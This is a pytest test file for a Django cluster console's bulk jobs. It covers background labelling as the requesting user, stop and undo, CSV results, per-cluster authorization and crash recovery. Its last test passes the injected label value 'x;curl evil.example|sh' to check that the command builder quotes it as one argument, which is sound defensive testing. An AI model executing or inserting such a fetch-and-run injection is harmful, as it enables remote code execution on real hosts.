"""Bulk jobs: few at once, many in the background as the person; stop, results, undo, and what a crash leaves."""

from __future__ import annotations

import csv
import io
import re
import shlex
from collections.abc import Mapping
from datetime import timedelta
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from guardian.shortcuts import assign_perm

from clusters.fleet import bulk_acts
from ocmconsole.kubeapi.access.actor import Actor, EntryPoint
from ocmconsole.kubeapi.access.session import actor_for
from ocmconsole.kubeapi.control import bulk_jobs
from ocmconsole.kubeapi.control.bulk_jobs import State
from ocmconsole.kubeapi.kinds import Key
from ocmconsole.kubeapi.models import AuditEvent, BulkJob, WorkItem
from ocmconsole.kubeapi.tasks import compact
from tests import factories as make
from tests.actors import signed_in
from tests.kept import kept

pytestmark = pytest.mark.django_db

FEW, MANY = 5, 10
TOLD = {"key": "team", "value": "shop"}


@pytest.fixture(autouse=True)
def _few(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fewer than in a hub, because each cluster of a fleet takes its time to be made."""
    assert bulk_jobs.FEW >= FEW
    monkeypatch.setattr(bulk_jobs, "FEW", FEW)


@pytest.fixture
def li() -> Client:
    return signed_in("li", is_superuser=True)


@pytest.fixture
@kept
def fleet() -> list[str]:
    names = [f"web-{number:02}" for number in range(MANY)]
    for name in names:
        make.cluster(name)
    make.settle()
    return names


def actor(name: str = "li") -> Actor:
    return actor_for(User.objects.get(username=name), entry_point=EntryPoint.WEB, address="10.3.0.9", request_id="r-1")


def label(names: list[str], **told: str) -> BulkJob:
    return bulk_acts.start_act(actor(), bulk_acts.LABEL, names, {**TOLD, **told})


def go_on(job: BulkJob, slices: int) -> None:
    for _ in range(slices):
        bulk_jobs.reconcile_bulk_job(Key("", str(job.pk)))


def states(job: BulkJob) -> dict[str, str]:
    return dict(job.items.order_by("pk").values_list("name", "state"))


def labelled(names: list[str]) -> list[str]:
    return [name for name in names if make.stored(name).labels.get("team") == "shop"]


def text(page: Any) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", page.content.decode()).split())


class TestHowItRuns:
    @pytest.mark.usefixtures("li")
    def test_few_are_done_when_the_page_answers(self, fleet: list[str]) -> None:
        job = label(fleet[:3])
        assert labelled(fleet) == fleet[:3]
        assert set(states(job).values()) == {State.DONE}
        assert job.ended

    @pytest.mark.contract("D11")
    @pytest.mark.usefixtures("li")
    def test_many_are_done_in_the_background_and_recorded_as_the_persons(self, fleet: list[str]) -> None:
        job = label(fleet)
        assert labelled(fleet) == []
        make.settle()
        assert labelled(fleet) == fleet
        entries = AuditEvent.objects.filter(name__in=fleet, user="li", request_id="r-1", address="10.3.0.9")
        assert entries.count() == MANY
        assert {entry.entry_point for entry in entries} == {"web"}
        job.refresh_from_db()
        assert job.ended
        assert not WorkItem.objects.filter(reconciler=bulk_jobs.WORKER, name=str(job.pk)).exists()

    @pytest.mark.usefixtures("li")
    def test_it_leaves_room_for_the_other_reconcilers(self, fleet: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(bulk_jobs, "SLICE_SECONDS", 0.0)
        job = label(fleet)
        go_on(job, 1)
        assert list(states(job).values()) == [State.DONE] + [State.WAITING] * (MANY - 1)
        make.settle()
        assert labelled(fleet) == fleet

    @pytest.mark.usefixtures("li")
    def test_one_that_breaks_stops_no_other(self, fleet: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
        broken = fleet[1]

        def perform(who: Actor, name: str, told: Mapping[str, Any]) -> str:
            if name == broken:
                raise RuntimeError(name)
            return bulk_acts._add_label(who, name, told)

        register(monkeypatch, perform=perform)
        job = label(fleet[:3])
        assert list(states(job).values()) == [State.DONE, State.FAILED, State.DONE]
        assert job.items.get(name=broken).text == "The hub could not do this one. Its log says why."

    @pytest.mark.usefixtures("li")
    def test_what_a_dead_worker_left_is_tried_again(self, fleet: list[str]) -> None:
        job = label(fleet)
        job.items.filter(name=fleet[0]).update(state=State.RUNNING)
        make.settle()
        assert labelled(fleet) == fleet

    @pytest.mark.contract("D11")
    @pytest.mark.usefixtures("li")
    def test_what_a_dead_worker_had_done_is_in_the_audit(self, fleet: list[str]) -> None:
        """It died between the act and its result: to try again would find the label there, and call that a failure."""
        job = label(fleet)
        name = fleet[0]
        bulk_acts._add_label(actor(), name, TOLD)
        job.items.filter(name=name).update(state=State.RUNNING)
        make.settle()
        assert states(job)[name] == State.DONE

    @pytest.mark.usefixtures("li")
    def test_two_workers_do_nothing_twice(self, fleet: list[str]) -> None:
        job, seen = label(fleet), list[str]()

        def perform(who: Actor, name: str, told: Mapping[str, Any]) -> str:
            seen.append(name)
            pause = bulk_jobs.reconcile_bulk_job(Key("", str(job.pk)))  # another worker, meanwhile
            assert pause is not None
            assert pause > timedelta(minutes=1)
            return ""

        with pytest.MonkeyPatch.context() as patch:
            register(patch, perform=perform)
            bulk_jobs.advance_job(job)
        assert seen == fleet

    @pytest.mark.usefixtures("li")
    def test_what_a_dead_worker_held_is_free_after_two_minutes(self, fleet: list[str]) -> None:
        job = label(fleet)
        BulkJob.objects.update(busy_until=timezone.now() + timedelta(minutes=2))
        make.settle()
        assert labelled(fleet) == []
        BulkJob.objects.update(busy_until=timezone.now())
        go_on(job, 1)
        assert labelled(fleet)

    def test_it_stays_with_its_person_whatever_their_name(self, li: Client, fleet: list[str]) -> None:
        job = label(fleet)
        User.objects.filter(username="li").update(username="lee")
        other = signed_in("li", is_superuser=True)
        assert other.get(f"/bulk/{job.pk}/").status_code == 404
        make.settle()
        assert AuditEvent.objects.filter(name=fleet[0], request_id="r-1").latest("pk").user == "lee"
        assert li.get(f"/bulk/{job.pk}/").status_code == 200

    @pytest.mark.usefixtures("li")
    def test_a_small_one_whose_process_died_is_gone_on_with(
        self, fleet: list[str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        with monkeypatch.context() as dying:
            dying.setattr(bulk_jobs, "advance_job", lambda _: None)
            job = label(fleet[:2])
        assert labelled(fleet) == []
        WorkItem.objects.filter(name=str(job.pk)).update(due=timezone.now())
        make.settle()
        assert labelled(fleet) == fleet[:2]

    @pytest.mark.parametrize("change", [{"is_active": False}, {"is_superuser": False}])
    @pytest.mark.usefixtures("li")
    def test_a_right_that_is_gone_meanwhile_is_missing(self, fleet: list[str], change: dict[str, bool]) -> None:
        job = label(fleet)
        User.objects.filter(username="li").update(**change)
        make.settle()
        assert labelled(fleet) == []
        expected = State.REFUSED if "is_superuser" in change else State.NOT_TRIED
        assert set(states(job).values()) == {expected}

    @pytest.mark.usefixtures("li")
    def test_the_account_is_read_when_the_job_goes_on_not_when_it_was_begun(self, fleet: list[str]) -> None:
        pk = label(fleet).pk
        job = BulkJob.objects.select_related("person").get(pk=pk)
        User.objects.filter(username="li").update(is_active=False)
        bulk_jobs.advance_job(job)
        assert labelled(fleet) == []
        assert set(states(job).values()) == {State.NOT_TRIED}

    @pytest.mark.usefixtures("li")
    def test_an_act_that_a_later_version_does_not_know_ends_the_job(self, fleet: list[str]) -> None:
        job = label(fleet)
        BulkJob.objects.update(act="clusters.gone")
        make.settle()
        assert set(job.items.values_list("state", "text")) == {(State.NOT_TRIED, "This hub knows no such act.")}

    @pytest.mark.usefixtures("li")
    def test_results_are_kept_for_a_week(self, fleet: list[str]) -> None:
        old, new, going = label(fleet[:1]), label(fleet[1:2]), label(fleet)
        BulkJob.objects.filter(pk=old.pk).update(ended=timezone.now() - timedelta(days=8))
        BulkJob.objects.filter(pk=going.pk).update(created=timezone.now() - timedelta(days=8))
        compact()
        assert set(BulkJob.objects.values_list("pk", flat=True)) == {new.pk, going.pk}


def register(monkeypatch: pytest.MonkeyPatch, **changes: Any) -> None:
    """An act as it is, but for the changes."""
    present = bulk_jobs.find_act("clusters.label")
    assert present is not None
    fields = {name: getattr(present, name) for name in present.__dataclass_fields__}
    monkeypatch.setitem(bulk_jobs._acts, present.name, bulk_jobs.BulkAct(**{**fields, **changes}))


class TestPages:
    @pytest.fixture(autouse=True)
    def going(self, li: Client, fleet: list[str], monkeypatch: pytest.MonkeyPatch) -> BulkJob:  # noqa: ARG002 - who asks for it
        """Three of them are done."""
        monkeypatch.setattr(bulk_jobs, "SLICE_SECONDS", 0.0)
        job = label(fleet)
        go_on(job, 3)
        return job

    def test_the_page_says_how_far_it_has_come(self, li: Client, going: BulkJob) -> None:
        page = li.get(f"/bulk/{going.pk}/")
        assert f"3 of {MANY} clusters labelled It goes on in the background" in text(page)
        assert f"{MANY - 3} to go" in text(page)
        assert "data-live-unfinished" in page.content.decode()
        assert f"3 of {MANY} clusters labelled, {MANY - 3} to go" in text(li.get("/bulk/"))
        make.settle()
        page = li.get(f"/bulk/{going.pk}/")
        assert f"{MANY} of {MANY} clusters labelled Ended" in text(page)
        assert "data-live-unfinished" not in page.content.decode()

    def test_stop_keeps_what_is_done(self, li: Client, going: BulkJob, fleet: list[str]) -> None:
        page = li.post(f"/bulk/{going.pk}/stop/", follow=True)
        assert "Stopped. What was done stays done; the others are as they were." in text(page)
        make.settle()
        assert labelled(fleet) == fleet[:3]
        assert list(states(going).values()) == [State.DONE] * 3 + [State.NOT_TRIED] * (MANY - 3)
        assert "It had ended before you stopped it." in text(li.post(f"/bulk/{going.pk}/stop/", follow=True))

    def test_what_is_stopped_between_two_items_is_left(self, fleet: list[str], going: BulkJob) -> None:
        """The worker has read the list; the person stops before its next item."""
        seen: list[str] = []

        def perform(who: Actor, name: str, told: Mapping[str, Any]) -> str:
            seen.append(name)
            bulk_jobs.end_job(going)
            return ""

        with pytest.MonkeyPatch.context() as patch:
            register(patch, perform=perform)
            bulk_jobs.advance_job(going)
        assert seen == [fleet[3]]
        assert states(going)[fleet[3]] == State.DONE
        assert states(going)[fleet[4]] == State.NOT_TRIED

    def test_results_are_a_file(self, li: Client, fleet: list[str]) -> None:
        kept, free = fleet[-2:]
        make.label(kept, team="pay")
        job = label([kept, free])
        answer = li.get(f"/bulk/{job.pk}/results.csv")
        rows = list(csv.DictReader(io.StringIO(answer.content.decode())))
        assert [(row["name"], row["result"]) for row in rows] == [(kept, "failed"), (free, "done")]
        assert rows[0]["why"]

    @pytest.mark.contract("D16")
    def test_nobody_else_sees_or_stops_it(self, going: BulkJob) -> None:
        other = signed_in("ana", is_superuser=True)
        for path in ("", "results.csv"):
            assert other.get(f"/bulk/{going.pk}/{path}").status_code == 404
        for path in ("stop/", "undo/"):
            assert other.post(f"/bulk/{going.pk}/{path}").status_code == 404
        assert "No bulk acts" in text(other.get("/bulk/"))
        assert list(states(going).values()).count(State.WAITING) == MANY - 3

    def test_what_cannot_be_undone_is_not(self, li: Client, going: BulkJob) -> None:
        assert "Nothing was done." in text(li.post(f"/bulk/{going.pk}/undo/", follow=True))

    def test_the_list_asks_the_same_however_many_there_are(
        self, li: Client, fleet: list[str], django_assert_max_num_queries: Any
    ) -> None:
        with CaptureQueriesContext(connection) as few:
            li.get("/bulk/")
        for name in fleet[:5]:
            label([name])
        with django_assert_max_num_queries(len(few)):
            li.get("/bulk/")


def test_each_is_authorized_by_itself(fleet: list[str]) -> None:
    client = signed_in("raj")
    raj = User.objects.get(username="raj")
    assign_perm("clusters.view_managedcluster", raj)
    assign_perm("clusters.change_managedcluster", raj, make.stored(fleet[1]))
    job = bulk_acts.start_act(actor("raj"), bulk_acts.LABEL, fleet[:3], TOLD)
    assert list(states(job).values()) == [State.REFUSED, State.DONE, State.REFUSED]
    assert "1 of 3 clusters labelled Ended" in text(client.get(f"/bulk/{job.pk}/"))


def test_page_and_job_lead_back_to_the_filtered_list_of_clusters_also_after_an_undo(
    li: Client, fleet: list[str]
) -> None:
    asked = "q=web-0&status=waiting&set="
    told = {"cluster": fleet[0], "act": "label", "query": asked}
    page = li.post("/clusters/_select/", told, follow=True)
    back = f'href="/clusters/?{asked}"'.replace("&", "&amp;")
    assert back in page.content.decode()
    job = li.post(page.redirect_chain[-1][0], TOLD, follow=True)
    assert job.content.decode().count(back) == 2
    assert BulkJob.objects.get().query == asked
    long = li.post("/clusters/_select/", {**told, "query": "q=" + "x" * 3_000}, follow=True)
    assert 'href="/clusters/"' in long.content.decode()


def test_what_was_typed_is_one_word_of_the_command() -> None:
    (command,) = bulk_acts._label_commands(make.ADMIN, ["c1"], {"key": "team", "value": "x;curl evil.example|sh"})
    assert shlex.split(command)[-1] == "team=x;curl evil.example|sh"
